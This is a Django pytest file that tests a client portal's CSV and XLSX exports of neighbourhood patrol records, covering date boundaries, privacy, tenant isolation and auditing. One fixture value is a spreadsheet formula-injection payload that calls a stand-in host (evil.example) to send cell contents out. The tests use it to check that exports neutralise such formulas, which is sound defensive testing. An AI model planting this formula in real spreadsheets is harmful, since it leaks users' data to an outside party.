"""The exports of the client portal: exact content of CSV and XLSX, formula injection
neutralised in both, nothing about residents, the screen's filters, the period's boundaries in
Amsterdam time, tenant isolation, streaming, the audit entry and query counts that do not grow
with the rows."""

import csv
import datetime as dt
import io
import re
import uuid
import zipfile
from xml.etree import ElementTree

import pytest
from django.db import connection
from django.http import FileResponse, StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from programmes.permissions import Role

AMS = dt.timezone(dt.timedelta(hours=1))  # winter time, for fixed moments in February/March
SUMMER = dt.timezone(dt.timedelta(hours=2))
INJECTION = '=HYPERLINK("http://evil.example/?"&A1)'
RESIDENT_TEXT = "Mevrouw Jansen van nummer 12 klaagt"


def _at(year, month, day, hour=0, minute=0, second=0, tz=AMS):
    return dt.datetime(year, month, day, hour, minute, second, tzinfo=tz)


def _url(world, dataset, fmt, **query):
    base = reverse(
        "reporting:export", kwargs={"org": world.client.slug, "dataset": dataset, "fmt": fmt}
    )
    query = {"start": "2026-03-01", "end": "2026-03-31", **query}
    return base + "?" + "&".join(f"{k}={v}" for k, v in query.items())


def _csv(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def _xlsx(response):
    """(rows of the first sheet as lists of values: text, or float for a number/date serial,
    every part of the workbook as text)."""
    assert isinstance(response, FileResponse)
    data = b"".join(response.streaming_content)
    book = zipfile.ZipFile(io.BytesIO(data))
    parts = {name: book.read(name).decode("utf-8") for name in book.namelist()}
    root = ElementTree.fromstring(parts["xl/worksheets/sheet1.xml"])  # noqa: S314 - our own file
    rows = []
    for row in root.iterfind(".//m:sheetData/m:row", NS):
        values = {}
        for cell in row.iterfind("m:c", NS):
            column = re.match(r"[A-Z]+", cell.get("r")).group()
            index = ord(column) - ord("A")
            if cell.get("t") == "inlineStr":
                values[index] = "".join(t.text or "" for t in cell.iterfind(".//m:t", NS))
            else:
                values[index] = float(cell.find("m:v", NS).text)
        rows.append([values.get(i, "") for i in range(max(values) + 1)] if values else [])
    return rows, parts


def _serial(value) -> float:
    """A date or naive datetime as the spreadsheet's serial day number."""
    if isinstance(value, dt.datetime):
        delta = value - dt.datetime(1899, 12, 30)
        return delta.days + delta.seconds / 86400
    return float((value - dt.date(1899, 12, 30)).days)


@pytest.fixture
def data(world, team, unscoped):
    """Signals around March 2026 (in and just outside it, Amsterdam time), rounds,
    conversations and a team meeting of the `team` programme."""
    from patrols import services as patrols
    from patrols.models import EffortRule, RoundSlot, Signal
    from programmes.models import Invitee, Meeting

    programme, member, categories = team
    parent = next(c for c in categories if c.parent_id is None and c.children.exists())
    child = parent.children.order_by("position").first()
    other_main = next(c for c in categories if c.parent_id is None and c.pk != parent.pk)

    def signal(at, category, **extra):
        s, _ = patrols.signal_report(
            actor=member,
            programme=programme,
            uuid=uuid.uuid4(),
            category=category,
            description=RESIDENT_TEXT,
            reported_at=at,
            **extra,
        )
        return s

    # Just before March in Amsterdam (22:59 UTC on 28 February): outside.
    before = signal(_at(2026, 2, 28, 23, 59), child, street="Voorstraat")
    # 00:30 on 1 March in Amsterdam is still 28 February in UTC: inside.
    first = signal(_at(2026, 3, 1, 0, 30), child, street=INJECTION, house_number="12", urgent=True)
    Signal.objects.filter(pk=first.pk).update(
        status="resolved", closed_at=_at(2026, 3, 3, 10), due_date=dt.date(2026, 3, 5)
    )
    # Last second of 31 March (summer time by then): inside, still open and overdue.
    last = signal(_at(2026, 3, 31, 23, 59, 59, SUMMER), other_main, street="Achterweg")
    Signal.objects.filter(pk=last.pk).update(due_date=dt.date(2026, 4, 7))
    # Closed late.
    late = signal(_at(2026, 3, 10, 9), parent, street="-Min")
    Signal.objects.filter(pk=late.pk).update(
        status="not_applicable", closed_at=_at(2026, 3, 20, 8), due_date=dt.date(2026, 3, 17)
    )
    # Midnight at the start of April in Amsterdam: outside.
    after = signal(_at(2026, 4, 1, 0, 0, 0, SUMMER), child, street="Nastraat")

    slot = RoundSlot.objects.create(
        organisation=programme.organisation,
        programme=programme,
        starts_at=_at(2026, 3, 31, 23, 0, tz=SUMMER),
        meeting_point="Plein",
        area="@Centrum",
    )
    # A round across the month's end: 1 hour in March, 1 in April; it counts in March.
    night, _ = patrols.round_start(
        actor=member,
        programme=programme,
        uuid=uuid.uuid4(),
        started_at=_at(2026, 3, 31, 23, 0, tz=SUMMER),
        slot=slot,
    )
    patrols.round_end(actor=member, round_=night, ended_at=_at(2026, 4, 1, 1, 0, tz=SUMMER))
    day, _ = patrols.round_start(
        actor=member, programme=programme, uuid=uuid.uuid4(), started_at=_at(2026, 3, 5, 14, 0)
    )
    patrols.round_end(actor=member, round_=day, ended_at=_at(2026, 3, 5, 15, 30))
    patrols.conversation_report(
        actor=member,
        programme=programme,
        uuid=uuid.uuid4(),
        topic="noise",
        outcome="bad",
        aggression=True,
        note=RESIDENT_TEXT,
        reported_at=_at(2026, 3, 5, 14, 20),
        round_=day,
    )
    patrols.conversation_report(
        actor=member,
        programme=programme,
        uuid=uuid.uuid4(),
        topic="litter",
        outcome="good",
        note=RESIDENT_TEXT,
        reported_at=_at(2026, 2, 27, 12, 0),  # outside March
    )
    EffortRule.objects.create(
        organisation=programme.organisation, programme=programme, min_rounds=2, min_hours=1
    )
    meeting = Meeting.objects.create(
        organisation=programme.organisation,
        programme=programme,
        kind=Meeting.Kind.TEAM,
        title="Teamoverleg",
        starts_at=_at(2026, 3, 12, 19),
        ends_at=_at(2026, 3, 12, 20),
        location="Buurthuis",
    )
    Invitee.objects.create(
        organisation=programme.organisation,
        meeting=meeting,
        user=member,
        name=member.name,
        email=member.email,
        token_hash="x" * 64,
        attended=True,
    )
    return {
        "programme": programme,
        "member": member,
        "parent": parent,
        "child": child,
        "other_main": other_main,
        "signals": (before, first, last, late, after),
    }


def _signals_expected(data):
    _, first, last, late, _ = data["signals"]
    parent, child, other = data["parent"], data["child"], data["other_main"]
    return [
        [
            "Referentie",
            "Wijk",
            "Gemeld",
            "Categorie",
            "Subcategorie",
            "Status",
            "Straat",
            "Huisnummer",
            "Dringend",
            "Af te handelen voor",
            "Afgesloten op",
            "Op tijd",
        ],
        [
            f"BT-{first.pk}",
            "Noord",
            "2026-03-01 00:30",
            parent.name,
            child.name,
            "Opgelost",
            "'" + INJECTION,  # a leading ': the spreadsheet shows it as text
            "12",
            "ja",
            "2026-03-05",
            "2026-03-03",
            "ja",
        ],
        [
            f"BT-{late.pk}",
            "Noord",
            "2026-03-10 09:00",
            parent.name,
            "",
            "Niet van toepassing",
            "'-Min",
            "",
            "nee",
            "2026-03-17",
            "2026-03-20",
            "nee",
        ],
        [
            f"BT-{last.pk}",
            "Noord",
            "2026-03-31 23:59",
            other.name,
            "",
            "Nieuw",
            "Achterweg",
            "",
            "nee",
            "2026-04-07",
            "",
            "nee",  # open and past its date (today is after April 2026)
        ],
    ]


def test_signals_csv_exact(client, world, data):
    client.force_login(world.users[Role.CLIENT_STAFF])
    response = client.get(_url(world, "signals", "csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="meldingen-{world.client.slug}-2026-03-01-2026-03-31.csv"'
    )
    assert _csv(response) == _signals_expected(data)


def test_signals_xlsx_exact(client, world, data):
    client.force_login(world.users[Role.CLIENT_STAFF])
    response = client.get(_url(world, "signals", "xlsx"))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response["Content-Disposition"].endswith('-2026-03-01-2026-03-31.xlsx"')
    rows, parts = _xlsx(response)
    expected = _signals_expected(data)
    _, first, last, late, _ = data["signals"]
    assert rows[0] == expected[0]
    assert rows[1] == [
        f"BT-{first.pk}",
        "Noord",
        pytest.approx(_serial(dt.datetime(2026, 3, 1, 0, 30))),
        data["parent"].name,
        data["child"].name,
        "Opgelost",
        INJECTION,  # a text cell: written as it is, never as a formula
        "12",
        "ja",
        _serial(dt.date(2026, 3, 5)),
        _serial(dt.date(2026, 3, 3)),
        "ja",
    ]
    assert rows[2][0] == f"BT-{late.pk}" and rows[2][6] == "-Min" and rows[2][11] == "nee"
    assert rows[3][0] == f"BT-{last.pk}"
    assert rows[3][2] == pytest.approx(_serial(dt.datetime(2026, 3, 31, 23, 59, 59)))
    assert rows[3][10] == "" and rows[3][11] == "nee"
    assert len(rows) == 4
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    # Dates are date cells with a Dutch format.
    assert "dd-mm-yyyy hh:mm" in parts["xl/styles.xml"]
    assert 'formatCode="dd-mm-yyyy"' in parts["xl/styles.xml"]
    assert "Meldingen" in parts["xl/workbook.xml"]


def test_no_resident_data_in_any_export(client, world, data):
    """Neither the description of a signal nor a conversation's note (free text that may name
    a resident) nor who recorded it is in any export, in either format."""
    client.force_login(world.users[Role.CLIENT_STAFF])
    member = data["member"]
    for dataset in ("signals", "rounds", "conversations"):
        csv_text = b"".join(client.get(_url(world, dataset, "csv")).streaming_content).decode()
        _, parts = _xlsx(client.get(_url(world, dataset, "xlsx")))
        for text in (csv_text, *parts.values()):
            assert "Jansen" not in text
            assert member.email not in text
            assert member.name not in text
            assert "Omschrijving" not in text and "Notitie" not in text


def test_rounds_exact(client, world, data):
    client.force_login(world.users[Role.CLIENT_STAFF])
    rows = _csv(client.get(_url(world, "rounds", "csv")))
    assert rows == [
        ["Wijk", "Datum", "Start", "Einde", "Uren", "Lopers", "Gebied"],
        ["Noord", "2026-03-05", "2026-03-05 14:00", "2026-03-05 15:30", "1,5", "1", ""],
        ["Noord", "2026-03-31", "2026-03-31 23:00", "2026-04-01 01:00", "2,0", "1", "'@Centrum"],
    ]
    rows, _ = _xlsx(client.get(_url(world, "rounds", "xlsx")))
    assert rows[2] == [
        "Noord",
        _serial(dt.date(2026, 3, 31)),
        pytest.approx(_serial(dt.datetime(2026, 3, 31, 23, 0))),
        pytest.approx(_serial(dt.datetime(2026, 4, 1, 1, 0))),
        2.0,
        1.0,
        "@Centrum",
    ]


def test_conversations_exact(client, world, data):
    client.force_login(world.users[Role.CLIENT_STAFF])
    rows = _csv(client.get(_url(world, "conversations", "csv")))
    assert rows == [
        ["Wijk", "Datum", "Tijd", "Onderwerp", "Hoe het ging", "Agressie"],
        ["Noord", "2026-03-05", "14:20", "Geluidsoverlast", "Ging niet goed", "ja"],
    ]


def test_effort_per_month_split_at_the_boundary(client, world, data):
    """The night round gives one hour to March (where it counts as a round) and one to April;
    March: 2 rounds, 2.5 hours, 1 meeting, obligation (2 rounds, 1 hour) met; April: 0
    rounds, 1 hour, not met."""
    client.force_login(world.users[Role.CLIENT_STAFF])
    name = data["member"].name
    rows = _csv(client.get(_url(world, "effort", "csv", end="2026-04-30")))
    assert rows == [
        ["Maand", "Wijk", "Teamlid", "Rondes", "Uren", "Teamoverleggen", "Verplichting gehaald"],
        ["2026-03-01", "Noord", name, "2", "2,5", "1", "ja"],
        ["2026-04-01", "Noord", name, "0", "1,0", "0", "nee"],
    ]


def test_filters_of_the_screen(client, world, data):
    client.force_login(world.users[Role.CLIENT_STAFF])
    _, first, last, late, _ = data["signals"]

    def refs(**query):
        return [r[0] for r in _csv(client.get(_url(world, "signals", "csv", **query)))[1:]]

    assert refs(status="resolved") == [f"BT-{first.pk}"]
    assert refs(status="open") == [f"BT-{last.pk}"]
    # A main category takes its sub-categories along.
    assert refs(category=data["parent"].pk) == [f"BT-{first.pk}", f"BT-{late.pk}"]
    assert refs(category=data["other_main"].pk) == [f"BT-{last.pk}"]
    assert refs(programme=data["programme"].pk) == [
        f"BT-{first.pk}",
        f"BT-{late.pk}",
        f"BT-{last.pk}",
    ]
    # One day: 1 March only (00:00 to 24:00 Amsterdam time).
    assert refs(end="2026-03-01") == [f"BT-{first.pk}"]
    assert refs(start="2026-02-28", end="2026-02-28") == [f"BT-{data['signals'][0].pk}"]


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"status": "kapot"}, "Deze status bestaat niet; kies er een uit de lijst."),
        ({"category": "abc"}, "Deze categorie bestaat niet; kies er een uit de lijst."),
        ({"category": "99999999999999999999"}, "Deze categorie bestaat niet"),
        ({"start": "2026-04-01"}, "De eerste dag van de periode ligt na de laatste dag."),
        ({"start": "0001-01-01"}, "Kies een datum tussen 2000 en 2100."),
        ({"end": "31-02-2026"}, "Tot en met"),
        ({"programme": "x"}, "Kies een programma uit de lijst."),
    ],
)
def test_wrong_filters_say_why(client, world, data, query, message):
    client.force_login(world.users[Role.CLIENT_STAFF])
    response = client.get(_url(world, "signals", "csv", **query))
    assert response.status_code == 400
    assert message in response.content.decode()


def test_a_sub_category_or_another_programmes_category_is_unknown(client, world, data):
    client.force_login(world.users[Role.CLIENT_STAFF])
    response = client.get(_url(world, "signals", "csv", category=data["child"].pk))
    assert response.status_code == 400
    assert "Deze categorie bestaat niet" in response.content.decode()


def test_effort_period_is_bounded(client, world, data):
    client.force_login(world.users[Role.CLIENT_STAFF])
    response = client.get(_url(world, "effort", "xlsx", start="2020-01-01", end="2026-03-31"))
    assert response.status_code == 400
    assert "hoogstens 36 maanden" in response.content.decode()


def test_without_a_period_the_current_month_so_far(client, world, team, unscoped):
    from ..builders import report_signal

    now = report_signal(team, street="Hier", description="")
    old = report_signal(team, street="Toen", description="", hours_ago=24 * 40)
    client.force_login(world.users[Role.CLIENT_STAFF])
    base = reverse(
        "reporting:export", kwargs={"org": world.client.slug, "dataset": "signals", "fmt": "csv"}
    )
    response = client.get(base)
    today = timezone.localdate()
    assert response["Content-Disposition"].endswith(
        f'-{today.replace(day=1).isoformat()}-{today.isoformat()}.csv"'
    )
    refs = [row[0] for row in _csv(response)[1:]]
    assert f"BT-{now.pk}" in refs and f"BT-{old.pk}" not in refs


def test_unknown_dataset_or_format_is_404(client, world, data):
    client.force_login(world.users[Role.CLIENT_STAFF])
    assert client.get(_url(world, "residents", "csv")).status_code == 404
    assert client.get(_url(world, "signals", "pdf")).status_code == 404


def test_tenant_isolation(client, world, other_world, data, unscoped):
    """Another client's programme is a 404; another client's signals are never in it; the
    other world's staff cannot open ours."""
    from programmes import services

    pl = world.users[Role.PROJECT_LEADER]
    other = services.programme_create(
        actor=pl,
        client=world.other_client,
        project_leaders=[pl],
        name="Team Wonen",
        neighbourhood="Wonen",
        municipality="Noordstad",
        start_date=dt.date(2026, 1, 5),
    )
    client.force_login(world.users[Role.CLIENT_STAFF])
    assert client.get(_url(world, "signals", "csv", programme=other.pk)).status_code == 404
    client.force_login(pl)  # leads both: still only the URL's client
    assert client.get(_url(world, "signals", "xlsx", programme=other.pk)).status_code == 404
    client.force_login(other_world.users[Role.CLIENT_STAFF])
    assert client.get(_url(world, "signals", "csv")).status_code == 404


def test_project_leader_sees_only_the_programmes_they_lead(client, world, data, unscoped):
    from programmes.permissions import Role as R

    from ..factories import UserFactory

    stranger = UserFactory(role=R.PROJECT_LEADER, organisation=world.consultancy)
    stranger.assigned_clients.set([world.client])
    client.force_login(stranger)
    url = _url(world, "signals", "csv", programme=data["programme"].pk)
    assert client.get(url).status_code == 404
    rows = _csv(client.get(_url(world, "signals", "csv")))
    assert rows[1:] == []  # all programmes they read: none
    client.force_login(world.users[Role.PROJECT_LEADER])  # leads it
    assert len(_csv(client.get(url))) == 4


def test_team_member_may_not_export(client, world, data):
    client.force_login(world.users[Role.TEAM_MEMBER])
    assert client.get(_url(world, "signals", "csv")).status_code == 403


def test_export_is_audited(client, world, data, unscoped):
    from programmes.models import AuditEntry

    client.force_login(world.users[Role.CLIENT_STAFF])
    b"".join(
        client.get(
            _url(world, "signals", "xlsx", status="open", programme=data["programme"].pk)
        ).streaming_content
    )
    entry = AuditEntry.objects.get(action="data_export.downloaded")
    assert entry.actor == world.users[Role.CLIENT_STAFF]
    assert entry.organisation == world.client
    assert entry.object_id == str(data["programme"].pk)
    assert entry.data == {
        "dataset": "signals",
        "format": "xlsx",
        "programme": data["programme"].pk,
        "start": "2026-03-01",
        "end": "2026-03-31",
        "status": "open",
    }


def _many_signals(team, n):
    from patrols.models import Signal

    programme, member, categories = team
    Signal.objects.bulk_create(
        Signal(
            organisation=programme.organisation,
            programme=programme,
            category=categories[0],
            reported_at=_at(2026, 3, 2) + dt.timedelta(minutes=i),
            due_date=dt.date(2026, 3, 9),
            street=f"Straat {i}",
            payload_hash="x",
        )
        for i in range(n)
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_queries_do_not_grow_with_rows(client, world, team, unscoped, fmt, monkeypatch):
    """10 and 250 signals (several chunks of the iterator, its size made small) cost the same
    number of queries; the rows are read in chunks, never all at once."""
    from reporting.selectors import exports

    monkeypatch.setattr(exports, "CHUNK_SIZE", 20)
    client.force_login(world.users[Role.CLIENT_STAFF])
    counts = []
    for n in (10, 240):
        _many_signals(team, n)
        with CaptureQueriesContext(connection) as queries:
            response = client.get(_url(world, "signals", fmt))
            body = b"".join(response.streaming_content)
        counts.append(len(queries))
        assert body
    assert counts[0] == counts[1]


def test_export_links_snippet(rf, world, data):
    from django.template.loader import render_to_string

    html = render_to_string(
        "reporting/includes/export_links.html",
        {
            "organisation": world.client,
            "programme": data["programme"],
            "period_start": dt.date(2026, 3, 1),
            "period_end": dt.date(2026, 3, 31),
            "signal_status": "open",
        },
    )
    for dataset in ("signals", "rounds", "conversations", "effort"):
        for fmt in ("csv", "xlsx"):
            assert f"/exports/{dataset}.{fmt}?start=2026-03-01&amp;end=2026-03-31" in html
    assert f"&amp;programme={data['programme'].pk}" in html
    assert html.count("status=open") == 2  # the signals' links only
    assert "Download de gegevens van deze periode" in html
    assert 'aria-label="Meldingen als XLSX"' in html
